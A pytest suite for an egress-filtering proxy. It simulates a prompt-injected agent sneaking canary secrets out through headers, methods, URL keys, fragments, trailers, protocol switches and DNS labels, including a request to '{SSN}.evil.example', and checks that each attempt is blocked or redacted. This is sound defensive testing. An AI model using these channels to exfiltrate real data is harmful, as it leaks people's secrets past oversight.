"""Nothing leaves unscanned (1 of 3), end to end: a prompt-injected agent carries canaries out
through an *allowed* destination by protocol switches, headers, trailers, the method, URL keys,
fragments and wildcard host labels. A raw-logging upstream must never see any form of a canary;
where the gateway refuses, it answers with the documented code.
"""

from __future__ import annotations

import json
import socket

import httpx
import pytest
from canaries import CANARIES, RawUpstream, leaks
from gwharness import Gateway, policy_yaml

RAW = "raw.test.example"
PASS = "pass.test.example"  # raw TCP passes by policy (redact.request.unsupported: pass)
WILD = "wild.test.example"  # allowed as *.wild.test.example
SSN, CARD, EMAIL = CANARIES["ssn"], CANARIES["card"], CANARIES["email"]
AWS, GH = CANARIES["aws_key_id"], CANARIES["github_token"]


@pytest.fixture(scope="module")
def env(tmp_path_factory, confdir):
    up = RawUpstream()
    work = tmp_path_factory.mktemp("carriers")
    policy = policy_yaml(
        allow=[{"host": RAW, "ports": [up.port]}, {"host": PASS, "ports": [up.port]},
               {"host": f"*.{WILD}", "ports": [up.port]}],
        resolve={RAW: "127.0.0.1", PASS: "127.0.0.1"},
        redact={"rules": [{"hosts": [PASS], "request": {"unsupported": "pass"}}]},
    )
    gw = Gateway(work, policy, confdir=confdir, extra_args=["--set", "connection_strategy=lazy"])
    yield gw, up
    gw.stop()
    up.close()


@pytest.fixture
def fresh(env):
    """The gateway and the upstream with an empty byte log and the default answer."""
    gw, up = env
    with up._lock:
        up.raw.clear()
    up.connections = 0
    up.reply = _ok
    gw.log_start = len(gw.log_text())
    yield gw, up
    up.reply = _ok


def _ok(got: bytes) -> bytes | None:
    from canaries import _ok_once

    return _ok_once(got)


def exchange(gw, data: bytes, then: bytes = b"", wait: float = 3.0) -> bytes:
    """Send raw bytes to the gateway as a plain HTTP proxy client; everything it answers."""
    s = socket.create_connection(("127.0.0.1", gw.port), timeout=wait)
    out = b""
    try:
        s.sendall(data)
        if then:
            s.sendall(then)
        while True:
            try:
                chunk = s.recv(65536)
            except (TimeoutError, ConnectionResetError):
                break
            if not chunk:
                break
            out += chunk
            if _complete(out):
                break
    finally:
        s.close()
    return out


def _complete(resp: bytes) -> bool:
    head, sep, body = resp.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return len(body) >= int(line.split(b":")[1])
    return False


def status(resp: bytes) -> int:
    return int(resp.split(b" ", 2)[1]) if resp.startswith(b"HTTP/") else 0


def body(resp: bytes) -> dict:
    return json.loads(resp.partition(b"\r\n\r\n")[2])


def gateway_files_clean(gw) -> None:
    """No canary in this test's part of the gateway log, in the audit log or the recordings."""
    assert leaks(gw.log_text()[getattr(gw, "log_start", 0):].encode()) == []
    assert leaks(gw.audit_path.read_bytes() if gw.audit_path.exists() else b"") == []
    for rec in gw.workdir.rglob("*.mitm"):
        assert leaks(rec.read_bytes()) == [], rec



# --- 1. protocol switches ------------------------------------------------------------------
def _switch(proto: bytes, payload: bytes = SSN.encode()):
    def reply(got: bytes) -> bytes | None:
        if b"\r\n\r\n" not in got:
            return None
        return (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: " + proto
                + b"\r\nConnection: Upgrade\r\n\r\nRAW:" + payload)
    return reply


@pytest.mark.parametrize("headers", [
    pytest.param(b"Upgrade: foo\r\nConnection: Upgrade\r\n", id="upgrade-foo"),
    pytest.param(b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                 b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n", id="h2c"),
    pytest.param(b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 12\r\n"
                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", id="websocket-v12"),
    pytest.param(b"Upgrade: WebSocket2\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                 b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n", id="websocket-lookalike"),
])
def test_protocol_switch_is_refused_before_the_upstream_sees_it(fresh, headers):
    gw, up = fresh
    up.reply = _switch(b"foo")
    req = (f"GET http://{RAW}:{up.port}/chat HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n".encode()
           + headers + b"\r\n")
    resp = exchange(gw, req, then=f"raw bytes after the switch: {SSN} {EMAIL}\n".encode())
    assert status(resp) == 415, resp[:300]
    assert body(resp)["error"] == "unsupported_content" and body(resp)["where"] == "upgrade"
    assert b"X-Egress-Gateway: unsupported_content" in resp
    assert b"RAW:" not in resp
    assert up.connections == 0 and up.leaks() == []
    line = gw.audit()[-1]
    assert line["code"] == "unsupported_content" and line["decision"] == "blocked"
    gateway_files_clean(gw)


def test_upstream_101_to_a_plain_request_is_replaced_with_the_refusal(fresh):
    """The second line: an upstream switching protocols uninvited (no Upgrade asked)."""
    gw, up = fresh
    up.reply = _switch(b"foo")
    req = f"GET http://{RAW}:{up.port}/x HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n\r\n".encode()
    resp = exchange(gw, req, then=f"after: {SSN} {CARD}\n".encode())
    assert status(resp) == 415, resp[:300]
    assert b"connection: close" in resp.lower()
    assert b"RAW:" not in resp and leaks(resp) == []
    assert up.leaks() == []
    gateway_files_clean(gw)


def test_policy_that_passes_raw_tcp_passes_the_switch(fresh):
    gw, up = fresh
    up.reply = _switch(b"foo", b"no canary here")
    req = (f"GET http://{PASS}:{up.port}/x HTTP/1.1\r\nHost: {PASS}:{up.port}\r\n"
           "Upgrade: foo\r\nConnection: Upgrade\r\n\r\n").encode()
    resp = exchange(gw, req, wait=2)
    assert status(resp) == 101, resp[:300]


# --- 2. headers and trailers ---------------------------------------------------------------
@pytest.mark.parametrize("name,value", [
    ("X-Custom", f"ssn {SSN}"),
    ("Cookie", f"sid=8f3a9c2e; note={EMAIL}"),
    ("User-Agent", f"agent/1.0 ({AWS})"),
    ("Referer", f"https://example.org/?card={CARD}"),
    ("X-Api-Key", GH),
    ("Authorization", f"token {GH}"),
])
def test_header_values_are_redacted(fresh, name, value):
    gw, up = fresh
    r = httpx.get(f"http://{RAW}:{up.port}/h", headers={name: value}, proxy=gw.proxy, timeout=10)
    assert r.status_code == 200, r.text
    assert up.leaks() == [], up.leaks()
    assert f"{name.lower()}: " in bytes(up.raw).decode("latin-1").lower()
    gateway_files_clean(gw)


@pytest.mark.parametrize("raw,where", [
    pytest.param(f"X-{SSN}: 1", "header_name", id="header-name"),
    pytest.param(f"X-Note-{GH}: 1", "header_name", id="header-name-token"),
])
def test_header_names_carrying_data_are_refused(fresh, raw, where):
    gw, up = fresh
    req = (f"GET http://{RAW}:{up.port}/ HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n{raw}\r\n\r\n"
           ).encode()
    resp = exchange(gw, req)
    assert status(resp) == 403, resp[:300]
    assert body(resp)["error"] == "sensitive_data" and body(resp)["where"] == where
    assert up.connections == 0 and up.leaks() == []
    gateway_files_clean(gw)


def test_method_token_carrying_data_is_refused(fresh):
    gw, up = fresh
    method = AWS
    req = f"{method} http://{RAW}:{up.port}/ HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n\r\n".encode()
    resp = exchange(gw, req)
    assert status(resp) == 403, resp[:300]
    assert body(resp)["where"] == "method"
    assert up.connections == 0 and up.leaks() == []
    gateway_files_clean(gw)


def test_response_headers_and_set_cookie_are_redacted(fresh):
    gw, up = fresh

    def reply(got: bytes) -> bytes | None:
        if b"\r\n\r\n" not in got:
            return None
        return (f"HTTP/1.1 200 OK\r\nSet-Cookie: sid=ok; tag={EMAIL}\r\nX-Echo: {SSN}\r\n"
                "Content-Length: 2\r\n\r\nok").encode()

    up.reply = reply
    r = httpx.get(f"http://{RAW}:{up.port}/r", proxy=gw.proxy, timeout=10)
    assert r.status_code == 200
    got = "\n".join(f"{k}: {v}" for k, v in r.headers.multi_items())
    assert leaks(got.encode()) == [], got
    assert "set-cookie: sid=ok; " in got.lower() and "<email_address>" in got.lower()
    gateway_files_clean(gw)


PRECISION_HEADERS = {
    "user-agent": "Anthropic/Python 0.69.0",
    "x-stainless-lang": "python",
    "x-stainless-package-version": "0.69.0",
    "x-stainless-os": "Linux",
    "x-stainless-arch": "x64",
    "x-stainless-runtime": "CPython",
    "x-stainless-runtime-version": "3.12.1",
    "x-stainless-retry-count": "0",
    "x-stainless-timeout": "600",
    "x-stainless-async": "false",
    "anthropic-version": "2023-06-01",
    "anthropic-beta": "claude-code-20250219,oauth-2025-04-20,interleaved-thinking-2025-05-14,"
                      "fine-grained-tool-streaming-2025-05-14",
    "anthropic-dangerous-direct-browser-access": "true",
    "x-app": "cli",
    "traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "cookie": "sessionid=38afe5a7c1d24e0f9b6a; csrftoken=Zx8f3kQ9mLp2Rt7vWy4bN6cD1eHgJ0aS; "
              "_ga=GA1.2.1234567890.1700000000",
}


def test_sdk_and_claude_code_headers_pass_byte_for_byte(fresh):
    gw, up = fresh
    r = httpx.get(f"http://{RAW}:{up.port}/p", headers=PRECISION_HEADERS, proxy=gw.proxy,
                  timeout=10)
    assert r.status_code == 200
    sent = bytes(up.raw).decode("latin-1")
    for k, v in PRECISION_HEADERS.items():
        assert f"{k}: {v}\r\n" in sent, k


# --- 3. URLs and host names ------------------------------------------------------------------
@pytest.mark.parametrize("target,where", [
    pytest.param(f"/q?{SSN}=1", "query_key", id="query-key"),
    pytest.param(f"/q?a=1&{EMAIL.replace('@', '%40')}", "query_key", id="bare-parameter"),
    pytest.param(f"/q?x=1#{GH}", "fragment", id="fragment"),
    pytest.param(f"/q#{CARD.replace(' ', '%20')}", "fragment", id="fragment-percent"),
])
def test_url_keys_and_fragments_carrying_data_are_refused(fresh, target, where):
    gw, up = fresh
    req = f"GET http://{RAW}:{up.port}{target} HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n\r\n".encode()
    resp = exchange(gw, req)
    assert status(resp) == 403, resp[:300]
    assert body(resp)["where"] == where
    assert up.connections == 0 and up.leaks() == []
    gateway_files_clean(gw)


def test_query_values_are_still_redacted(fresh):
    gw, up = fresh
    r = httpx.get(f"http://{RAW}:{up.port}/q", params={"ssn": SSN, "flag": ""}, proxy=gw.proxy,
                  timeout=10)
    assert r.status_code == 200
    assert up.leaks() == []


@pytest.mark.parametrize("label", [SSN, AWS.lower(), "4111-1111-1111-1111"])
def test_wildcard_host_labels_carrying_data_are_refused_before_dns(fresh, label):
    gw, up = fresh
    host = f"{label}.{WILD}"
    req = f"GET http://{host}:{up.port}/ HTTP/1.1\r\nHost: {host}:{up.port}\r\n\r\n".encode()
    resp = exchange(gw, req)
    assert status(resp) == 403, resp[:300]
    assert body(resp)["error"] == "sensitive_data" and body(resp)["where"] == "host"
    assert "cannot resolve" not in gw.log_text()[-2000:]
    assert up.connections == 0
    gateway_files_clean(gw)


def test_wildcard_connect_with_data_label_is_refused(fresh):
    gw, up = fresh
    host = f"{SSN}.{WILD}"
    resp = exchange(gw, f"CONNECT {host}:{up.port} HTTP/1.1\r\nHost: {host}:{up.port}\r\n\r\n"
                    .encode())
    assert status(resp) == 403, resp[:300]
    assert body(resp)["where"] == "host"
    gateway_files_clean(gw)


def test_clean_wildcard_label_reaches_dns(fresh):
    """A label without data is looked up (and fails here: the name does not exist)."""
    gw, up = fresh
    host = f"docs.{WILD}"
    req = f"GET http://{host}:{up.port}/ HTTP/1.1\r\nHost: {host}:{up.port}\r\n\r\n".encode()
    resp = exchange(gw, req)
    assert status(resp) == 502 and body(resp)["error"] == "dns_error"


# --- 4. the gateway's own files --------------------------------------------------------------
@pytest.mark.parametrize("how", ["proxy-auth", "header"])
def test_session_ids_carrying_data_are_withheld(fresh, how):
    import base64

    gw, up = fresh
    if how == "proxy-auth":
        cred = base64.b64encode(f"{EMAIL}:x".encode()).decode()
        headers = {"Proxy-Authorization": f"Basic {cred}"}
    else:
        headers = {"X-Agent-Session": SSN}
    r = httpx.get(f"http://{RAW}:{up.port}/s", headers=headers, proxy=gw.proxy, timeout=10)
    assert r.status_code == 200
    line = gw.audit()[-1]
    assert line["session"].startswith("withheld-") and line["path"] == "/s"
    files = [p.name for p in gw.workdir.rglob("*.mitm")]
    assert any(n.startswith("withheld-") for n in files) and leaks(" ".join(files).encode()) == []
    assert up.leaks() == []
    gateway_files_clean(gw)


def test_an_ordinary_session_id_is_kept(fresh):
    gw, up = fresh
    r = httpx.get(f"http://{RAW}:{up.port}/s", headers={"X-Agent-Session": "agent-7.run-42"},
                  proxy=gw.proxy, timeout=10)
    assert r.status_code == 200
    assert gw.audit()[-1]["session"] == "agent-7.run-42"


def test_refused_and_redacted_flows_are_commented_with_session_code_and_reason(fresh):
    from mitmproxy import io as mio

    gw, up = fresh
    httpx.get(f"http://{RAW}:{up.port}/c1", headers={"X-Agent-Session": "commented",
                                                     "X-Note": SSN}, proxy=gw.proxy, timeout=10)
    httpx.get(f"http://{RAW}:{up.port}/c2?{SSN}", headers={"X-Agent-Session": "commented"},
              proxy=gw.proxy, timeout=10)
    flows = []
    for rec in gw.workdir.rglob("commented*.mitm"):
        with open(rec, "rb") as f:
            flows += list(mio.FlowReader(f).stream())
    comments = [fl.comment for fl in flows]
    assert any(c.startswith("session commented; request: 1 US_SSN") for c in comments), comments
    assert any(c.startswith("session commented; refused sensitive_data: ") for c in comments), \
        comments


def test_the_whole_log_audit_and_recordings_hold_no_canary(env):
    gw, _ = env
    assert leaks(gw.log_text().encode()) == []
    gw.log_start = 0
    gateway_files_clean(gw)
    assert list(gw.workdir.rglob("*.mitm")), "the flows were recorded"


# --- trailing dots -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def tls_env(tmp_path_factory, confdir, cert_dir):
    from gwharness import Upstream

    up = Upstream("tls", tls=True, cert_dir=cert_dir)
    work = tmp_path_factory.mktemp("trailing-dot")
    gw = Gateway(work, policy_yaml(allow=[{"host": "api.test.example", "ports": [up.port]}],
                                   resolve={"api.test.example": "127.0.0.1"}), confdir=confdir)
    yield gw, up
    gw.stop()
    up.close()


@pytest.mark.parametrize("target,sni", [("api.test.example.", "api.test.example."),
                                        ("API.TEST.EXAMPLE.", "API.TEST.EXAMPLE."),
                                        ("api.test.example.", "api.test.example"),
                                        ("api.test.example.", None)])
def test_trailing_dot_names_get_an_answer(tls_env, target, sni):
    import ssl

    gw, up = tls_env
    s = socket.create_connection(("127.0.0.1", gw.port), timeout=10)
    s.sendall(f"CONNECT {target}:{up.port} HTTP/1.1\r\nHost: {target}:{up.port}\r\n\r\n".encode())
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=gw.ca_cert)
    ctx.check_hostname = False
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(f"GET /dot HTTP/1.1\r\nHost: {target}:{up.port}\r\nConnection: close\r\n\r\n"
              .encode())
    resp = b""
    while chunk := t.recv(65536):
        resp += chunk
    t.close()
    assert status(resp) == 200, resp[:300]
    assert up.requests[-1]["path"] == "/dot"


def test_trailing_dot_host_over_plain_http(fresh):
    gw, up = fresh
    r = httpx.get(f"http://{RAW}.:{up.port}/dot", proxy=gw.proxy, timeout=10)
    assert r.status_code == 200


def test_http1_chunked_trailer_closes_the_connection_and_the_log_holds_no_canary(fresh):
    """mitmproxy's HTTP/1 reader raises on an incoming chunked trailer before any hook runs:
    the documented outcome is the connection closed, nothing forwarded, no bytes in the log."""
    gw, up = fresh
    req = (f"POST http://{RAW}:{up.port}/t HTTP/1.1\r\nHost: {RAW}:{up.port}\r\n"
           "Transfer-Encoding: chunked\r\nTrailer: X-Leak\r\n\r\n"
           f"5\r\nhello\r\n0\r\nX-Leak: {SSN}\r\n\r\n").encode()
    resp = exchange(gw, req)
    assert status(resp) in (0, 400), resp[:300]
    assert up.leaks() == []
    gateway_files_clean(gw)


def test_http2_headers_and_trailers_are_scanned(tls_env):
    import ssl

    import h2.config
    import h2.connection
    import h2.events

    gw, up = tls_env
    s = socket.create_connection(("127.0.0.1", gw.port), timeout=10)
    s.sendall(f"CONNECT api.test.example:{up.port} HTTP/1.1\r\nHost: api.test.example:{up.port}"
              "\r\n\r\n".encode())
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(cafile=gw.ca_cert)
    ctx.check_hostname = False
    ctx.set_alpn_protocols(["h2"])
    t = ctx.wrap_socket(s, server_hostname="api.test.example")
    assert t.selected_alpn_protocol() == "h2"
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "POST"), (":scheme", "https"),
                          (":authority", f"api.test.example:{up.port}"), (":path", "/h2"),
                          ("x-note", f"mail {EMAIL}"), ("content-type", "text/plain")])
    conn.send_data(1, b"hello")
    conn.send_headers(1, [("x-trailer", f"ssn {SSN}")], end_stream=True)
    t.sendall(conn.data_to_send())
    status_code, ended = None, False
    t.settimeout(10)
    while not ended:
        data = t.recv(65536)
        if not data:
            break
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ResponseReceived):
                status_code = int(dict(ev.headers)[b":status"])
            elif isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset):
                ended = True
        t.sendall(conn.data_to_send())
    t.close()
    assert status_code == 200
    sent = up.requests[-1]
    assert sent["path"] == "/h2" and sent["headers"]["x-note"] == "mail <EMAIL_ADDRESS>"
    assert "x-trailer" not in sent["headers"]
    assert leaks(json.dumps(sent).encode()) == []
    assert leaks(gw.log_text().encode()) == []


def test_a_refused_host_off_the_allowlist_is_withheld_from_audit_and_recordings(fresh):
    gw, up = fresh
    host = f"{SSN}.evil.example"
    resp = exchange(gw, f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    assert status(resp) == 403 and body(resp)["error"] == "blocked"
    assert gw.audit()[-1]["host"] == "withheld.evil.example"
    assert leaks(gw.audit_path.read_bytes()) == []
    assert leaks(gw.log_text().encode()) == []  # the refusal's log line is written before any scan
    for rec in gw.workdir.rglob("*.mitm"):
        assert leaks(rec.read_bytes()) == [], rec
